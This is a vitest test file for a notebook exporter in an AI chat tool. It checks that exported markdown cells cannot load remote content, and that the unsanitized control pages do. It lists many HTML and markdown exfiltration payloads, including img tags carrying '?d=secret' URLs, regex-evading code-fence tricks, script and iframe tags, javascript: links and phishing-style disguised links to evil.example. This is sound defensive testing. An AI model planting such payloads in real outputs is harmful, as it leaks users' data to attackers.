import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "puppeteer-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { parseMarkdown } from "../../src/core/markdown/markdown-tree.js";
import { buildNotebook, notebookFile } from "../../src/export/notebook.js";
import { MAX_NOTEBOOK_MARKDOWN_CHARS, NotebookMarkdownBudget, notebookMarkdown, speaker } from "../../src/export/notebook-markdown.js";
import type { ThreadTurnInput } from "../../src/export/turn-record.js";
import { launchChromium } from "../support/browser.js";
import { LOADING_TAG, VIEWERS, visit } from "./markdown-viewers.js";
import { nbformatValidate } from "./nbformat-check.js";

/**
 * An exported notebook loads nothing when it is opened: answers (the model's words, which can
 * repeat what the sandbox printed) full of HTML and images that would call an attacker's server,
 * exported, then every markdown cell rendered as JupyterLab, VS Code and GitHub render it (raw HTML
 * allowed, no sanitizer) and opened in a real Chromium, which must make no request at all.
 */

let recorder: Server;
let base: string;
const hits: string[] = [];
let browser: Browser;

beforeAll(async () => {
  recorder = createServer((req, res) => {
    hits.push(req.url ?? "");
    res.writeHead(200, { "content-type": "image/png" }).end();
  });
  await new Promise<void>((resolve) => recorder.listen(0, "127.0.0.1", resolve));
  base = `http://127.0.0.1:${(recorder.address() as AddressInfo).port}`;
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => recorder?.close(resolve));
});

/**
 * The three forms a line-by-line regex reads differently from CommonMark (the reproduction: each
 * left a raw <img src="http://…"> in the exported notebook), then the other ways markdown loads things.
 */
const regexBeaters = (at: string) => [
  // Unequal backtick runs: `` opens nothing that ` closes, so this is no code span but raw HTML.
  `Values: \`\`<img src="${at}/leak-1?d=secret">\` done.`,
  // A backtick in a backtick fence's info string: no fence at all, so the HTML below is live.
  `\`\`\`py\`thon\n<img src="${at}/leak-2?d=secret">\n\`\`\``,
  // A fence indented by a tab is indented code, which the next unindented line ends: an HTML block.
  `\t\`\`\`\n<img src="${at}/leak-3?d=secret">\n\t\`\`\``,
];

const otherVectors = (at: string) => [
  `![chart](${at}/image-1.png?d=secret) and ![ref][logo] and [![badge](${at}/image-2.png)](${at}/page)\n\n[logo]: ${at}/image-3.png`,
  `<picture><source srcset="${at}/srcset-1"><img srcset="${at}/srcset-2 2x"></picture>`,
  `<iframe src="${at}/frame"></iframe>\n\n<link rel="stylesheet" href="${at}/style.css">\n\n<style>@import url("${at}/import.css"); body { background: url(${at}/bg.png) }</style>`,
  `<svg><image href="${at}/svg-image"/></svg> <video poster="${at}/poster.png" src="${at}/video.mp4"></video> <audio src="${at}/audio.mp3" autoplay></audio>`,
  `<object data="${at}/object"></object><embed src="${at}/embed"> <input type="image" src="${at}/input.png"> <script src="${at}/script.js"></script>`,
  `<meta http-equiv="refresh" content="0;url=${at}/refresh"> <table background="${at}/table-bg.png"><tr><td>x</td></tr></table>`,
  `| col | html |\n| --- | --- |\n| 1 | <img src="${at}/in-table"> |\n\n> quoted <img src="${at}/in-quote">\n\n- listed <img src="${at}/in-list">\n\nA note[^1].\n\n[^1]: <img src="${at}/in-footnote">`,
  `<div>\n<img src="${at}/in-div">\n</div>\n\n<!-- <img src="${at}/comment"> -->\n\n<?php echo 1; ?> <![CDATA[ <img src="${at}/cdata"> ]]>`,
  `Code stays code: \`<img src="${at}/in-code">\` and\n\n\`\`\`html\n<img src="${at}/in-fence">\n\`\`\`\n\n~~~ a\`b\n<img src="${at}/in-tilde">\n~~~`,
  `[https://bank.example](${at}/phish) [click](javascript:fetch('${at}/js')) <${at}/autolink> www.example.com`,
];

const turn = (answerMarkdown: string, userText = "what is it?"): ThreadTurnInput => ({
  eventId: `e-${Math.random()}`,
  at: 0,
  userName: `Mallory <img src="${base}/in-name">`,
  userText,
  steps: [],
  answerMarkdown,
});

async function markdownCells(turns: ThreadTurnInput[]): Promise<string[]> {
  const facts = { threadName: `t <img src="${base}/in-thread">`, exportedAt: new Date("2025-05-06T07:08:09Z") };
  const file = notebookFile(await buildNotebook(turns, facts), facts);
  await nbformatValidate(file.data);
  const cells = (JSON.parse(file.data.toString("utf8")) as { cells: Array<{ cell_type: string; source: string }> }).cells;
  return cells.filter((cell) => cell.cell_type === "markdown").map((cell) => cell.source);
}

describe("exported notebooks are inert", () => {
  test("the reproduction and every other way to load something: no viewer's page requests anything; the HTML shows as text", async () => {
    const answers = [...regexBeaters(base), ...otherVectors(base)];
    const cells = await markdownCells([turn(answers.join("\n\n"), `look at <img src="${base}/in-question"> ![q](${base}/q.png)`), ...answers.map((answer) => turn(answer))]);
    expect(cells.length).toBe(1 + 2 * (answers.length + 1));
    for (const [viewer, render] of Object.entries(VIEWERS)) {
      const html = cells.map(render).join("\n<hr>\n");
      expect(html, viewer).not.toMatch(LOADING_TAG);
      const page = await visit(browser, html);
      expect(page.requests, viewer).toEqual([]);
      // Shown as written, for people to read.
      expect(page.text, viewer).toContain(`<img src="${base}/leak-1?d=secret">`);
      expect(page.text, viewer).toContain(`<img src="${base}/leak-3?d=secret">`);
      expect(page.text, viewer).toContain("Mallory <img src=");
    }
    expect(hits).toEqual([]);
  });

  test("the harness sees leaks: the same answers unneutralized make every viewer's page call the recorder", async () => {
    const answers = [...regexBeaters(`${base}/control`), ...otherVectors(`${base}/control`)];
    for (const [viewer, render] of Object.entries(VIEWERS)) {
      const page = await visit(browser, answers.map(render).join("\n<hr>\n"));
      const leaks = page.requests.filter((url) => url.includes("/control/leak-"));
      expect(leaks.length, viewer).toBeGreaterThanOrEqual(2);
      expect(page.requests.some((url) => url.includes("/control/image-1.png")), viewer).toBe(true);
    }
    expect(hits.some((hit) => hit.startsWith("/control/"))).toBe(true);
  });
});

describe("the notebook markdown pipeline, case by case", () => {
  const tree = (markdown: string) => parseMarkdown(markdown)!;
  const nodeTypes = (markdown: string): string[] => {
    const types: string[] = [];
    const walk = (node: { type: string; children?: unknown[] }) => {
      types.push(node.type);
      for (const child of node.children ?? []) walk(child as { type: string; children?: unknown[] });
    };
    walk(tree(markdown));
    return types;
  };

  test("what CommonMark reads as code stays code, what it reads as HTML becomes text", () => {
    // A code span of two backticks may hold one; the HTML inside stays as written (it is code).
    expect(notebookMarkdown("`` a ` <img src=x> ``")).toBe("``a ` <img src=x>``");
    const unequal = notebookMarkdown("``<img src=http://x/a>`");
    expect(nodeTypes(unequal)).not.toContain("html");
    expect(nodeTypes(unequal)).not.toContain("inlineCode");
    // A ~~~ fence may have a backtick in its info string: still a fence, its HTML still code.
    const tilde = notebookMarkdown("~~~ a`b\n<img src=x>\n~~~");
    expect(tree(tilde).children.map((node) => node.type)).toEqual(["code"]);
    expect(tilde).toContain("\n<img src=x>\n");
    expect(nodeTypes(notebookMarkdown("```a`b\n<img src=x>\n```"))).not.toContain("html");
    const tab = notebookMarkdown("\t```\n<img src=x>\n\t```");
    expect(tree(tab).children.map((node) => node.type)).toEqual(["code", "paragraph"]);
  });

  test("images become links; unsafe or misleading links lose their disguise; references resolve", () => {
    expect(notebookMarkdown("![a chart](https://example.com/c.png)")).toBe("[a chart](https://example.com/c.png)");
    expect(notebookMarkdown("![](https://example.com/c.png)")).toBe("<https://example.com/c.png>");
    expect(notebookMarkdown("[![b](https://x.example/b.png)](https://example.com/)")).toBe("[b](https://example.com/)");
    expect(notebookMarkdown("[run me](javascript:alert(1)) [data](data:text/html,hi)")).toBe("run me data");
    expect(notebookMarkdown("[https://bank.example/login](https://evil.example/)")).toBe("https\\://bank.example/login (<https://evil.example/>)");
    expect(notebookMarkdown("[the docs](https://docs.python.org/3/)")).toBe("[the docs](https://docs.python.org/3/)");
    expect(notebookMarkdown("![x][r] [y][r]\n\n[r]: https://example.com/r.png")).toBe("[x](https://example.com/r.png) [y](https://example.com/r.png)");
  });

  test("names are text, and text too deep to read as markdown is shown as a code block", () => {
    const who = notebookMarkdown("hi", speaker("Ada *[admin](http://evil)* <b>"));
    const first = tree(who).children[0] as { type: string; children: Array<{ type: string; children?: Array<{ value?: string }> }> };
    expect(first.children[0]?.type).toBe("strong");
    expect(first.children[0]?.children?.map((child) => child.value).join("")).toBe("Ada *[admin](http://evil)* <b>");
    expect(nodeTypes(who)).not.toContain("link");
    const deep = `${">".repeat(5000)} <img src=http://x/deep>`;
    const shown = notebookMarkdown(deep);
    expect(tree(shown).children.map((node) => node.type)).toEqual(["code"]);
    expect(shown).toContain(deep);
    expect(parseMarkdown(`${"- ".repeat(100)}x`)).toBeUndefined();
  });

  test("a notebook reads at most MAX_NOTEBOOK_MARKDOWN_CHARS as markdown: the rest is plain text, and said", async () => {
    const answer = `**bold** ${"a".repeat(49_000)}`;
    const turns = Array.from({ length: Math.floor(MAX_NOTEBOOK_MARKDOWN_CHARS / answer.length) + 1 }, () => ({ ...turn(answer), userName: "Ada", userText: "" }));
    const cells = await markdownCells(turns);
    expect(cells.filter((cell) => cell.startsWith("**bold**"))).toHaveLength(turns.length - 1);
    expect(tree(cells.at(-2)!).children.map((node) => node.type)).toEqual(["code"]);
    expect(cells.at(-1)).toBe("_1 text is shown as plain text: a notebook formats at most 1,000,000 characters of markdown._");
    const budget = new NotebookMarkdownBudget(10);
    expect([budget.cell("*a*"), budget.cell("*bcdefgh*"), budget.cell("*c*")]).toEqual(["_a_", "```\n*bcdefgh*\n```", "_c_"]);
    expect(budget.plainCells).toBe(1);
  });

  test("two thousand random mixes of markdown's sharp edges: no viewer renders a tag that loads anything", () => {
    const pieces = ["`", "``", "```", "~~~", "\t", "    ", "\n", "\n\n", "<img src=x>", "<img", " src=http://x/i>", "<", ">", "![", "](", ")", "[", "]", "*", "_", "\\", "|", "-", "1.", "> ", "<!--", "-->", "<div>", "&lt;", "&#60;", "http://x/a", "www.x.com", "[^1]", "[r]: http://x/r.png", "a", " "];
    let seed = 17;
    const random = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
    const problems: string[] = [];
    for (let i = 0; i < 2000; i++) {
      const input = Array.from({ length: 4 + Math.floor(random() * 16) }, () => pieces[Math.floor(random() * pieces.length)]).join("");
      const output = notebookMarkdown(input);
      for (const [viewer, render] of Object.entries(VIEWERS)) {
        // Code blocks and spans show their text escaped in every viewer; outside them no tag may appear.
        if (LOADING_TAG.test(render(output))) problems.push(`${viewer}: ${JSON.stringify(input)} → ${JSON.stringify(output)}`);
      }
    }
    expect(problems.slice(0, 10)).toEqual([]);
  });
});
